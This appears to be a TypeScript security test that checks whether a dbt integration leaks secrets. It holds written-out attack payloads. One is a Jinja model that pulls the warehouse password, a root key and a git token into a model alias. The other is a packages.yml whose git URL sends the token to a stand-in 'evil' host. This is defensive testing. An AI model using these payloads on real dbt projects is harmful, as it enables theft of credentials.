import { existsSync, readdirSync } from 'node:fs'
import { join } from 'node:path'
import type { DbtPython } from '../../../../apps/server/src/adapters/dbt/index.ts'
import type { Phase } from './attacks.ts'
import type { Ground } from './ground.ts'
import { givenRun, runPhase, type Stage } from './phases.ts'
import { filesHold, type Found, outcomeOf } from './probing.ts'

/** The dbt that tools/setup installed. */
const realDbt = (): DbtPython => {
  const folder = process.env['FACET_DBT_FOLDER'] ?? ''
  const version = existsSync(folder) ? readdirSync(folder).findLast((name) => existsSync(join(folder, name, 'pyvenv.cfg'))) : undefined
  if (version === undefined) throw new Error(`There is no dbt in FACET_DBT_FOLDER (${folder}). Run tools/setup.`)
  return { python: join(folder, version, 'bin/python'), root: join(folder, version) }
}

/** Variables that a project reads in its Jinja, and the secret that dbt would then write. */
const asked = (ground: Ground): [name: string, variable: string, secret: string][] => [
  ['env_var of the password of the warehouse', 'CUBEJS_DB_PASS', ground.password],
  ['env_var of a variable of the service', 'FACET_ROOT_KEY', ground.service.rootKey],
  ['env_var of the credential of the clone', 'GIT_TOKEN', ground.token],
]

const askingModel = (variables: readonly string[]): string =>
  `{{ config(alias='a' ~ ${variables.map((name) => `env_var('${name}', 'none')`).join(' ~ ')}) }} select 1 as id\n`

const attackByJinja = async (phase: 'parse' | 'catalog', stage: Stage): Promise<Found[]> => {
  const questions = asked(stage.ground)
  const run = await givenRun(stage.ground, phase, { 'models/asks.sql': askingModel(questions.map(([, variable]) => variable)) })
  const outcome = await outcomeOf(runPhase(phase, stage, run, { environment: realDbt() }))
  const written = phase === 'parse' ? run.folders.artifacts : run.folders.catalog
  // Without a warehouse, dbt still has read the project and kept the result.
  if (!['manifest.json', 'partial_parse.msgpack'].some((name) => existsSync(join(written, name))))
    throw new Error(`dbt read no project in ${phase}: ${outcome.slice(0, 1500)}`)
  return questions.map(([name, , secret]) => {
    const isReached = outcome.includes(secret) || filesHold(run.folders.artifacts, secret) || filesHold(run.folders.catalog, secret)
    return { phase, name, isReached, why: outcome.slice(0, 200) }
  })
}

const packagesOf = (url: string): Record<string, string> => ({
  'packages.yml': `packages:\n  - git: ${JSON.stringify(url)}\n    revision: main\n    warn-unpinned: false\n`,
})

/** A package requires a second package, whose URL contains the credential. */
const attackByPackage = async (stage: Stage): Promise<Found> => {
  const { git, evil, token } = stage.ground
  const own = { 'dbt_project.yml': 'name: taker\nversion: 1.0.0\nconfig-version: 2\n' }
  const taking = packagesOf(`https://localhost:${evil.port}/{{ env_var('GIT_TOKEN', 'none') }}.git`)
  await (await git.addRepository('taker.git')).commit('main', { ...own, ...taking })
  const run = await givenRun(stage.ground, 'deps', packagesOf(git.urlOf('taker.git')))
  const outcome = await outcomeOf(runPhase('deps', stage, run, { environment: realDbt() }))
  const isReached = outcome.includes(token) || evil.heard.some((line) => line.includes(token))
  return { phase: 'deps', name: 'a package that takes the credential of the clone to another host', isReached, why: outcome.slice(0, 300) }
}

/** Attacks by a project on the real dbt. */
export const dbtAttacks = async (phase: Phase, stage: Stage): Promise<Found[]> => {
  if (phase === 'parse' || phase === 'catalog') return attackByJinja(phase, stage)
  return phase === 'deps' ? [await attackByPackage(stage)] : []
}
